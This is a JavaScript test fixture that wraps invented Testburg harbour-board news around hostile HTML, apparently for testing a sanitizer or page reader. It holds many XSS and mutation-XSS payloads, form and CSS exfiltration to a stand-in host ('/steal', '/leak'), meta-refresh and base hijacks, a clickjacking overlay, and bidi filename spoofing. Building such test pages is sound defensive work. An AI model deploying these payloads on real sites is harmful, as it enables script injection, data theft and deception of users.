// Pages that want to act: each has two paragraphs of news and something hostile between them. Ours, invented.

export const FIRST = "The harbour board of Testburg met on Tuesday and voted to keep the swing bridge open until the end of May, its chair said.";
export const SECOND = "Two members voted against it, because the hinges were last oiled in autumn and nobody could say by whom.";

const act = "window.PWNED=1";

/** What stands between the paragraphs; `to` is an address that nobody may speak to. */
const bodies = (to) => ({
  script: `<script>${act}</script><script src="http://${to}/a.js"></script>`,
  picture_that_fails: `<img src=x onerror="${act}">`,
  drawing_that_loads: `<svg onload=${act}><a xlink:href="javascript:${act}"><text y="20">draw</text></a></svg>`,
  link_to_script: `<a href="java&#x0A;script:${act}">read on</a>`,
  link_to_data: `<a href="data:text/html,<script>${act}</script>">read on</a>`,
  frame_with_script: `<iframe srcdoc="<script>parent.PWNED=1;top.PWNED=1</script>"></iframe><iframe src="http://${to}/f"></iframe>`,
  film_that_starts: `<video autoplay onloadstart="${act}" poster="http://${to}/poster"><source src="http://${to}/film" onerror="${act}"></video>`,
  style_that_loads: `<style>@import url(http://${to}/x.css);@font-face{font-family:x;src:url(http://${to}/f)}p{background:url(http://${to}/leak);font-family:x}</style>`,
  noscript_that_changes: `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  formula_that_changes: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  template_with_script: `<template><script>${act}</script></template>`,
  form_elsewhere: `<form action="http://${to}/steal" target="_top"><input name=word value=secret><button>Read on</button></form>`,
  refresh: `<meta http-equiv=refresh content="0;url=http://${to}/refreshed"><meta http-equiv=refresh content="0;url=javascript:${act}">`,
  base: `<base href="http://${to}/" target="_top"><a href="/login">log in</a><img src="relative.png">`,
  object: `<object data="javascript:${act}"></object><embed src="data:text/html,<script>${act}</script>"><object data="http://${to}/o"></object>`,
  overlay: `<p style="position:fixed;inset:0;z-index:9999" onpointermove="${act}" onclick="${act}">&nbsp;</p>`,
  link_that_opens: `<a href="http://${to}/opened" target="_blank" rel="opener">window</a> <a href="http://${to}/top" target="_top" ping="http://${to}/ping">top</a>`,
  pixel: `<img src="http://${to}/pixel.gif" srcset="http://${to}/2x.gif 2x" width=1 height=1><picture><source srcset="http://${to}/s"><img></picture>`,
  script_as_text: `&lt;script&gt;${act}&lt;/script&gt;&lt;img src=x onerror=${act}&gt; stays text`,
  quote_that_never_closes: `<img src='http://${to}/?`,
  hints: `<link rel=preconnect href="http://${to}/"><link rel=dns-prefetch href="//${to}"><link rel=prefetch href="http://${to}/p"><link rel=preload as=image href="http://${to}/q"><link rel=stylesheet href="http://${to}/c.css"><link rel=icon href="http://${to}/i"><script type=speculationrules>{"prefetch":[{"urls":["http://${to}/s"]}]}</script>`,
  title: "",
  described: "",
  direction: `<p>Report \u202egnp.exe\u202c by the \u2066board\u2069, pay\u200dment\u{e0041} due.</p>`,
});

/** All pages by name. */
export function pages(to) {
  const titles = { title: `</title><script>${act}</script><img src=x onerror=${act}>`, direction: "Minutes \u202etxt.exe" };
  const described = `<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><img src=x onerror=${act}>","author":{"name":"<svg onload=${act}>"},"datePublished":"2026-13-45"}</script>`;
  const page = ([name, body]) => {
    const title = titles[name] ?? `Testburg keeps its bridge open (${name})`;
    const head = name === "described" ? described : "";
    const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body><article><h1>${title}</h1><p>${FIRST}</p>${body}<p>${SECOND}</p></article></body></html>\n`;
    return [name, html];
  };
  return Object.entries(bodies(to)).map(page);
}
